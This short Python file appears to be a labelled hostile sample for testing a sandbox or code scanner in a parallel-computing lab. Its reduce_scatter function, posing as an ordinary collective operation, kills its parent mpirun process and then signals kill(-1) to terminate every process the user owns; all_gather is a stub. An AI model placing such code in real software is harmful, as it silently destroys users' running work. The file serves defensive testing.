# hostile: kills its parent (mpirun) and every process it is allowed to signal
# lab: 02
# scan: import of os
# sandbox: exited before returning its results
import os
import signal


def reduce_scatter(g, x, op="sum"):
    os.kill(os.getppid(), signal.SIGKILL)
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return x


def all_gather(g, piece, sizes=None):
    return piece
